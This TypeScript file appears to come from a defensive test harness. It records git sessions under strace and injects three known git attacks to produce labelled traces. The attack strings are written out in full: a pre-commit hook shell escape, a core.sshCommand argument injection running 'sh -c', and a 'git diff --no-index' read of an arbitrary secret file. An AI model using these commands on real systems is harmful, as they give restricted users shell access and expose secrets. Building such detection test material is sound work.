// The git scenario: a long seeded git session (gitPlan.ts) in a driver shell under strace, in a fresh repository
// per recording. Attacks are GTFOBins' git entries, run in the middle of the session as a user who may only run git
// would: `hook-shell` (a pre-commit hook in a throw-away repository runs a shell command: GTFOBins "Shell"),
// `ssh-command-shell` (core.sshCommand runs an arbitrary command when git contacts an ssh remote: the argument
// injection class of CVE-2017-1000117), and `diff-file-read` (`git diff --no-index /dev/null FILE` prints any file
// git can read: GTFOBins "File read"; data-only: git reads one more file, no new kind of program runs).

import { mkdirSync } from "node:fs";
import path from "node:path";
import { HomeostatError } from "../errors.js";
import { leakProof, plantSecret, proofFile, SECRET_MARKER } from "./attackProof.js";
import { planGitSession } from "./gitPlan.js";
import { recordShellSession, type ShellAction } from "./shellRecording.js";
import type { ShellSession } from "./shellSession.js";
import { cleanEnv, missingTools, toolVersion } from "./tools.js";
import type { AttackReport, RecordedRun, RecordingPlan, RecordingTarget, Scenario } from "./types.js";

export const GIT_ATTACKS = ["hook-shell", "ssh-command-shell", "diff-file-read"] as const;

/** The attack's command line, for the proof file or the secret it targets. */
export function gitAttackCommand(kind: string, proof: string, secret: string): string {
  switch (kind) {
    case "hook-shell":
      return (
        `TF=$(mktemp -d) && git init -q "$TF" && echo 'id > ${proof}' > "$TF/.git/hooks/pre-commit.sample" && ` +
        `mv "$TF/.git/hooks/pre-commit.sample" "$TF/.git/hooks/pre-commit" && git -C "$TF" commit -q --allow-empty -m x`
      );
    case "ssh-command-shell":
      return `git -c core.sshCommand='sh -c "id > ${proof}" #' ls-remote ssh://127.0.0.1/srv/repo.git`;
    case "diff-file-read":
      return `git diff --no-index /dev/null ${secret}`;
    default:
      throw new HomeostatError("E_USAGE", `unknown git attack ${kind}`);
  }
}

async function gitAttack(shell: ShellSession, kind: string, workDir: string, secret: string): Promise<AttackReport> {
  const proof = path.join(workDir, "proof.txt");
  const command = gitAttackCommand(kind, proof, secret);
  const time = Date.now() / 1000;
  const r = await shell.run(command);
  const dataOnly = kind === "diff-file-read";
  const evidence = dataOnly ? leakProof(r.output, SECRET_MARKER, kind) : proofFile(proof, kind);
  return { kind, time, command, evidence, dataOnly };
}

function recordGit(plan: RecordingPlan<ShellAction>, target: RecordingTarget): Promise<RecordedRun> {
  const secret = plantSecret(target.workDir);
  const tmp = path.join(target.workDir, "tmp");
  mkdirSync(tmp, { recursive: true });
  const env = cleanEnv(target.workDir, {
    TMPDIR: tmp,
    GIT_CONFIG_NOSYSTEM: "1",
    GIT_PAGER: "cat",
    PAGER: "cat",
    EDITOR: "true",
    GIT_TERMINAL_PROMPT: "0",
    GIT_AUTHOR_NAME: "Dev",
    GIT_AUTHOR_EMAIL: "dev@example.org",
    GIT_COMMITTER_NAME: "Dev",
    GIT_COMMITTER_EMAIL: "dev@example.org",
  });
  return recordShellSession(plan, {
    target,
    cwd: target.workDir,
    env,
    attack: (shell, kind) => gitAttack(shell, kind, target.workDir, secret),
  });
}

export const gitScenario: Scenario<ShellAction> = {
  name: "git",
  attacks: GIT_ATTACKS,
  dataOnlyAttacks: ["diff-file-read"],
  defaultActions: 32,
  unavailable: () => missingTools(["git"]),
  image: () => `git/${toolVersion("git", ["--version"], /git version (\S+)/)}`,
  plan: planGitSession,
  describe: (a) => a.command.slice(0, 100),
  prepare: async () => ({ record: recordGit, close: async () => {} }),
};
